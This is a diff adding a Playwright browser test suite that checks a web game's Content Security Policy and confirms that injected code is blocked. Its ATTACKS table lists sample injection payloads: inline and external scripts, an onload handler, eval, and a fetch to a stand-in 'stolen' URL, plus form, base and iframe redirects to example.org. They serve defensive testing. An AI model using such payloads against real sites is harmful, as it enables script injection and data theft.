@@ -1,0 +1,150 @@
+"""The content policy of the page: how strict it is, that no screen needs more, and that it stops what is put in.
+
+Every test in a browser runs under it, and fails for an error in the console; here the reports themselves are counted.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+from playwright.sync_api import Page, expect
+
+from tests.browser.sitting import Sitting, asked, eager, over, put, ready, saved
+from tools.build import ROOT
+
+LISTEN = """window.violations = [];
+document.addEventListener("securitypolicyviolation", (event) =>
+  violations.push(`${event.effectiveDirective} ${event.blockedURI}`));"""
+BLOCKED = "Content Security Policy|example.org"
+PAGE = (ROOT / "index.html").read_text("utf-8")
+# What an attacker would try, and what is reported then.
+ATTACKS = {
+    "an inline script": (
+        "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = 1' }))",
+        "script-src-elem inline",
+    ),
+    "a script from elsewhere": (
+        "document.body.append(Object.assign(document.createElement('script'), { src: 'https://example.org/a.js' }))",
+        "script-src-elem https://example.org/a.js",
+    ),
+    "a script in an address": (
+        "document.body.append(Object.assign(document.createElement('script'), { src: 'data:,window.ran = 1' }))",
+        "script-src-elem data",
+    ),
+    "a listener in markup": (
+        "document.body.insertAdjacentHTML('beforeend', '<img src=\"assets/icon.svg\" onload=\"window.ran = 1\">')",
+        "script-src-attr inline",
+    ),
+    "a style in markup": (
+        "document.body.insertAdjacentHTML('beforeend', '<p style=\"position: fixed\">')",
+        "style-src-attr inline",
+    ),
+    "text run as code": ("setTimeout('window.ran = 1')", "script-src eval"),
+    "a worker made of text": (
+        "new Worker(URL.createObjectURL(new Blob(['0'])))",
+        "worker-src blob",
+    ),
+    "a request to elsewhere": (
+        "fetch('https://example.org/stolen').catch(() => {})",
+        "connect-src https://example.org/stolen",
+    ),
+    "a picture from elsewhere": (
+        "document.body.append(Object.assign(new Image(), { src: 'https://example.org/a.png' }))",
+        "img-src https://example.org/a.png",
+    ),
+    "a form sent elsewhere": (
+        """(() => {
+          const form = Object.assign(document.createElement("form"), { action: "https://example.org/form" });
+          document.body.append(form);
+          HTMLFormElement.prototype.submit.call(form);
+        })()""",
+        "form-action https://example.org/form?",
+    ),
+    "another base": (
+        "document.head.append(Object.assign(document.createElement('base'), { href: 'https://example.org/' }))",
+        "base-uri https://example.org/",
+    ),
+    "a page in the page": (
+        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.org/' }))",
+        "frame-src https://example.org",
+    ),
+}
+
+
+def test_the_policy_allows_this_site_and_webassembly() -> None:
+    """Any word that is added here is to be explained in docs/architecture.md."""
+    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', PAGE)
+    directives = dict(part.split(maxsplit=1) for part in policy.split(";"))
+    nothing = {name for name, sources in directives.items() if sources == "'none'"}
+    assert nothing == {"default-src", "base-uri", "form-action"}
+    assert directives["script-src"].split() == ["'self'", "'wasm-unsafe-eval'"]
+    assert {sources for name, sources in directives.items() if name not in {*nothing, "script-src"}} == {"'self'"}
+    explained = (ROOT / "docs/architecture.md").read_text("utf-8")
+    assert [name for name in directives if f"`{name}" not in explained] == []
+
+
+def test_the_page_has_no_code_of_its_own() -> None:
+    assert re.findall(r"<script\b[^>]*>(?!</script>)", PAGE) == []
+    assert re.findall(r"\s(?:on\w+|style)=", PAGE) == []
+    assert "<style" not in PAGE
+    assert PAGE.index("Content-Security-Policy") < min(PAGE.index(tag) for tag in ("<link", "<script", "<title"))
+
+
+def test_no_screen_needs_more(page: Page) -> None:
+    """From the entrance through a game with a bot to its end, by every dialog: not one report."""
+    page.add_init_script(LISTEN)
+    turn = saved("human", "heuristic", until=asked("turn"), id="a1")
+    put(page, turn, saved("human", "human", until=over, id="b2"))
+    page.goto("./")
+    ready(page)
+    expect(page.locator(".saved-game")).to_have_count(2)
+    seen = _dialogs(page, ".top [data-do], .home .rule-link, .saved-game:first-child .saved-tools [data-do='rename']")
+    page.evaluate("location.hash = '#/play/b2'")
+    expect(page.locator("#ending-title")).to_be_visible()
+    page.evaluate("location.hash = '#/play/a1'")
+    expect(page.locator("#ending-title")).to_have_count(0)
+    page.locator("[data-do='speed']").select_option("instant")
+    sitting = Sitting(page, turn)
+    sitting.play(eager(3), until=lambda: sitting.picks >= 6)
+    seen += _dialogs(page, "#prompt .rule-link, [data-do='menu']")
+    page.locator("[data-do='menu']").click()
+    seen += _dialogs(page, "dialog .menu [data-do]:not([data-do='home'])", again="[data-do='menu']")
+    assert seen >= 8, "fewer dialogs than there are"
+    assert page.evaluate("violations") == []
+
+
+def _dialogs(page: Page, openers: str, again: str = "") -> int:
+    """Press what these are one after the other, and close what opens; how many dialogs there were."""
+    seen = 0
+    for n in range(page.locator(openers).count()):
+        if again and not page.locator("dialog").count():
+            page.locator(again).click()
+        page.locator(openers).nth(n).click()
+        page.wait_for_timeout(100)
+        if page.locator("dialog").count():
+            seen += 1
+            page.keyboard.press("Escape")
+            expect(page.locator("dialog")).to_have_count(0)
+    return seen
+
+
+def test_what_is_put_into_the_page_does_nothing(page: Page, faults: Any) -> None:
+    faults.allow(BLOCKED)
+    page.add_init_script(LISTEN)
+    page.goto("./")
+    ready(page)
+    reports = {
+        attack: page.evaluate(
+            f"""async () => {{
+              violations.length = 0;
+              {code};
+              await new Promise((done) => setTimeout(done, 100));
+              return [...new Set(violations)];
+            }}"""
+        )
+        for attack, (code, _) in ATTACKS.items()
+    }
+    assert reports == {attack: [report] for attack, (_, report) in ATTACKS.items()}
+    assert page.evaluate("window.ran === undefined")
+    assert page.url.startswith("http://127.0.0.1")
